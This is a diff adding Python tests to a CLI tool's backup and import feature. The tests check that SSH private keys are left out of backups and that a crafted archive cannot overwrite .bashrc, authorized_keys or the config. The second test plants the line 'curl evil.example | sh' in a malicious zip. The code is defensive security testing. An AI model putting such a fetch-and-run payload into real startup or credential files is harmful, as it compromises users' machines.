@@ -5,8 +5,12 @@ from __future__ import annotations
 import asyncio
 import json
 import wave
+import zipfile
 from pathlib import Path
 from typing import Any
+
+import pytest
+from click.testing import CliRunner
 
 from hermes.app.plugged_services import TOOLS
 from hermes.app.start import start
@@ -14,7 +18,9 @@ from hermes.config.edit import write_settings
 from hermes.config.home import Home
 from hermes.core.commands import Say
 from hermes.core.effects import CallServer, FetchUrl
+from hermes.core.errors import HermesError
 from hermes.core.events import ToolIntended
+from hermes.surfaces.cli.root import root
 from hermes.testing.server import ScriptedServer
 from hermes.testing.steps import calls, says
 from tests.app.plugins.talk import Talk, results, use
@@ -241,3 +247,56 @@ async def test_a_browser_is_kept_and_said_to_be_used_by_nobody(talk: Talk) -> No
     await asyncio.to_thread(talk.hermes, "plugins", "enable", "browser/far")
     said = await asyncio.to_thread(talk.hermes, "plugins", "doctor")
     assert "brings the browser far, which no tool here uses" in said
+
+
+KEEPER = """
+class Keeper:
+    name = "keeper"
+    def initialize(self, session_id, **kw): pass
+    def backup_paths(self):
+        return ["~/keeper", "~/.ssh/id_rsa", "/etc/hostname", "~/missing"]
+def register(ctx):
+    ctx.register_memory_provider(Keeper())
+"""
+
+
+async def test_what_a_memory_provider_keeps_beside_the_home_is_in_the_backup(talk: Talk) -> None:
+    person = talk.home.parent
+    for name in ("keeper/a.txt", "keeper/deep/b.txt", ".ssh/id_rsa"):
+        (person / name).parent.mkdir(parents=True, exist_ok=True)
+        (person / name).write_text(f"text of {name}")
+    talk.write("memory/keeper/plugin.yaml", "name: keeper\nkind: backend\n")
+    talk.write("memory/keeper/__init__.py", KEEPER)
+    await asyncio.to_thread(talk.hermes, "plugins", "enable", "memory/keeper")
+    set_(talk, memory__provider="keeper")
+    file = str(person / "all.zip")
+    made = json.loads(await asyncio.to_thread(talk.hermes, "backup", "-o", file, "--json"))
+    assert made["outside"]["files"] == ["keeper/a.txt", "keeper/deep/b.txt"]
+    told = " ".join(made["outside"]["left_out"])
+    assert "id_rsa holds credentials" in told and "/etc/hostname is outside" in told
+    for name in ("keeper/a.txt", "keeper/deep/b.txt"):
+        (person / name).write_text("changed since")
+    said = await asyncio.to_thread(talk.hermes, "import", file, "--yes")
+    assert "~/keeper/a.txt" in said and "--external" in said
+    assert (person / "keeper/a.txt").read_text() == "changed since"
+    await asyncio.to_thread(talk.hermes, "import", file, "--yes", "--external")
+    assert (person / "keeper/deep/b.txt").read_text() == "text of keeper/deep/b.txt"
+    newest = max(
+        (talk.home / "backups").glob("*before-import*.zip"), key=lambda f: f.stat().st_mtime_ns
+    )
+    with zipfile.ZipFile(newest) as archive:
+        assert archive.read("_external/keeper/a.txt") == b"changed since"
+
+
+@pytest.mark.parametrize("name", [".bashrc", ".ssh/authorized_keys", ".hermes/config.yaml"])
+async def test_a_backup_of_a_stranger_cannot_change_what_programs_obey(
+    talk: Talk, name: str
+) -> None:
+    file = talk.home.parent / "evil.zip"
+    with zipfile.ZipFile(file, "w") as archive:
+        archive.writestr("config.yaml", "agent: {max_turns: 7}\n")
+        archive.writestr(f"_external/{name}", "curl evil.example | sh\n")
+    done = CliRunner().invoke(root, ["import", str(file), "--yes", "--external"])
+    assert isinstance(done.exception, HermesError) and "nothing was restored" in str(done.exception)
+    assert not (talk.home.parent / name).exists()
+    assert not (talk.home / "config.yaml").exists()
